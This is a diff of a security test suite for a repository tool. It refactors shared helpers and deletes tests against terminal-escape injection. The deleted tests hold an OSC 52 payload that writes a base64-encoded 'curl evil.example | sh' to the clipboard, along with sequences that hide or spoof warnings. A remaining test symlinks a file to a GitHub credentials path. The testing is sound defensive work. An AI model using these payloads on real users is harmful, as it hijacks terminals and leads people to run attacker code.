@@ -12,7 +12,7 @@ import stat
 from pathlib import Path
 
 import pytest
-from attack_helpers import git, run
+from attack_helpers import git, plan_apply_revert, run, with_schema
 
 
 def _marker_script(tmp_path: Path, marker: Path, *, passthrough: bool = False) -> Path:
@@ -49,12 +49,7 @@ def test_a_submodule_filter_driver_runs_nothing(checkout: Path, tmp_path: Path) 
     git(checkout, "commit", "-q", "-m", "submodule")
     with (sub / "data.txt").open("a") as data:  # changed: git cleans it to compare
         data.write("more\n")
-    code, _, err = run(checkout, "--no-exec", "plan")
-    assert code == 0, err
-    code, _, err = run(checkout, "--no-exec", "apply", "--all")
-    assert code == 0, err
-    code, _, err = run(checkout, "--no-exec", "revert", "--all")
-    assert code == 0, err
+    plan_apply_revert(checkout)
     assert not marker.exists()
 
 
@@ -100,18 +95,11 @@ def test_validate_no_exec_imports_no_old_public_path(checkout: Path, tmp_path: P
 SECRET = "ghp_0123456789abcdefSECRET"
 
 
-def _with_database(checkout: Path, schema: str = "db/schema.sql") -> None:
-    (checkout / "db").mkdir(exist_ok=True)
-    (checkout / "db/schema.sql").write_text("CREATE TABLE t (id int);\n")
-    with (checkout / "guardian.toml").open("a") as config:
-        config.write(f'[database]\nschema = ["{schema}"]\n')
-
-
 def test_a_sql_file_symlinked_outside_the_repository_is_not_read_into_the_report(checkout: Path, outside: Path) -> None:
     """`db/notes.sql -> ~/.config/gh/hosts.yml`: assess listed the "SQL it cannot read" with the
     statement's text, so the user's token reached the terminal, the JSON and the CI log."""
     (outside / "hosts.yml").write_text(f"github.com:\n    oauth_token: {SECRET}\n")
-    _with_database(checkout)
+    with_schema(checkout)
     (checkout / "db/notes.sql").symlink_to(outside / "hosts.yml")
     git(checkout, "add", "-A")
     git(checkout, "commit", "-qm", "database")
@@ -132,7 +120,7 @@ def test_a_schema_file_outside_the_repository_is_refused(checkout: Path, outside
         (checkout / "db").mkdir()
         (checkout / "db/other.sql").symlink_to(outside / "other.sql")
     shown = {"absolute": str(outside / "other.sql"), "dotdot": "../outside/other.sql", "symlink": "db/other.sql"}
-    _with_database(checkout, shown[how])
+    with_schema(checkout, shown[how])
     code, out, err = run(checkout, "--no-exec", "assess")
     assert code == 2 and "database.schema" in err and "outside the repository" in err, err
     assert SECRET not in out + err
@@ -325,63 +313,6 @@ def test_a_sparse_file_of_gigabytes_is_not_read(checkout: Path, tmp_path: Path) 
     assert done.returncode == 2 and "src/pkg/big.py" in done.stderr and "larger than" in done.stderr, done.stderr
 
 
-def test_an_untrusted_entry_cannot_drive_the_terminal_of_whoever_inspects_it(checkout: Path) -> None:
-    """A shipped journal entry is shown, never acted on; but its description and error went to the
-    terminal as they were: an escape sequence can write the clipboard (OSC 52), or conceal the
-    UNTRUSTED warning printed after it (SGR 8) so that `--trust` looks safe."""
-    import json
-
-    from rollback import Journal, Write
-
-    Journal(checkout).apply("shipped", [Write("src/pkg/c.py", b"")])
-    manifest = next((checkout / ".guardian/journal").glob("*/manifest.json"))
-    text = manifest.read_text()
-    data = json.loads(text[: text.rindex("}") + 1])
-    data["description"] = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[8m"
-    data["error"] = "\x1b[2J\x1b[Hall entries trusted"
-    manifest.write_text(json.dumps(data))
-    for command in (["journal"], ["journal", "shipped"]):
-        code, out, err = run(checkout, *command)
-        assert code == 0, err
-        assert "UNTRUSTED" in out and "\x1b" not in out + err, command
-
-
-def test_schema_labels_cannot_drive_the_terminal_enums_sql_prints_on(checkout: Path) -> None:
-    """`guardian enums sql` prints the migration on the terminal: the labels of the checkout's schema
-    went there verbatim, escape sequences included (OSC 52 writes the user's clipboard). Redirected
-    to a file, the SQL keeps the label's exact bytes."""
-    import pty
-    import select
-    import subprocess
-    import sys
-
-    osc = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
-    _with_database(checkout)
-    (checkout / "db/schema.sql").write_text(
-        f"CREATE TYPE mood AS ENUM ('ok', 'x{osc}');\nCREATE TYPE mood2 AS ENUM ('ok', 'x{osc}');\n"
-        "CREATE TABLE t (m mood, n mood2);\n"
-    )
-    argv = [sys.executable, "-m", "guardian", "--repo", str(checkout), "--no-exec", "enums", "sql"]
-    master, slave = pty.openpty()
-    child = subprocess.Popen(argv, stdin=slave, stdout=slave, stderr=subprocess.DEVNULL)
-    os.close(slave)
-    shown = b""
-    while True:
-        ready, _, _ = select.select([master], [], [], 120)
-        try:
-            chunk = os.read(master, 65536) if ready else b""
-        except OSError:  # the child closed the terminal
-            chunk = b""
-        if not chunk:
-            break
-        shown += chunk
-    assert child.wait(timeout=60) == 0
-    os.close(master)
-    assert b"CREATE TYPE" in shown and b"\x1b]52" not in shown and b"\\x1b]52" in shown
-    piped = subprocess.run(argv, capture_output=True, text=True, timeout=120, check=True)
-    assert osc in piped.stdout
-
-
 def test_blobs_a_checkout_ships_under_the_next_batch_id_are_not_taken_as_guardians(checkout: Path) -> None:
     """Blobs are content-addressed and batch ids predictable: a tarball's `.guardian/journal/1/blobs/`
     held a file named for the sha256 of each module, with other content. `apply` kept them as its own
@@ -393,11 +324,7 @@ def test_blobs_a_checkout_ships_under_the_next_batch_id_are_not_taken_as_guardia
     for path in (checkout / "src/pkg").glob("*.py"):
         (blobs / hashlib.sha256(path.read_bytes()).hexdigest()).write_text("not the file\n")
     before = {p: p.read_bytes() for p in (checkout / "src/pkg").glob("*.py")}
-    assert run(checkout, "--no-exec", "plan")[0] == 0
-    code, _, err = run(checkout, "--no-exec", "apply", "--all")
-    assert code == 0, err
-    code, _, err = run(checkout, "--no-exec", "revert", "--all")
-    assert code == 0, err
+    plan_apply_revert(checkout)
     assert {p: p.read_bytes() for p in (checkout / "src/pkg").glob("*.py")} == before
 
 
@@ -446,20 +373,3 @@ def test_a_check_baseline_symlinked_to_a_device_or_outside_is_refused(
         check=False,
     )
     assert done.returncode == 2 and ".guardian-baseline.json" in done.stderr, done.stderr
-
-
-def test_schema_identifiers_cannot_drive_the_terminal_of_assess_plan_status(checkout: Path) -> None:
-    """A type name of the checkout's schema (`CREATE TYPE "e<ESC>]52;c;...<BEL>x"`) went to the
-    terminal verbatim in assess's, plan's and status's ENUM lines."""
-    osc = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
-    _with_database(checkout)
-    (checkout / "db/schema.sql").write_text(
-        f"CREATE TYPE \"e{osc}x\" AS ENUM ('ok', 'no');\nCREATE TYPE mood2 AS ENUM ('ok', 'no');\n"
-        f'CREATE TABLE t (m "e{osc}x", n mood2);\n'
-    )
-    git(checkout, "add", "-A")
-    git(checkout, "commit", "-qm", "schema")
-    for command in (["assess"], ["plan"], ["status"]):
-        code, out, err = run(checkout, "--no-exec", *command)
-        assert code in (0, 3), (command, err)
-        assert "\\x1b]52" in out + err and "\x1b" not in out + err, command
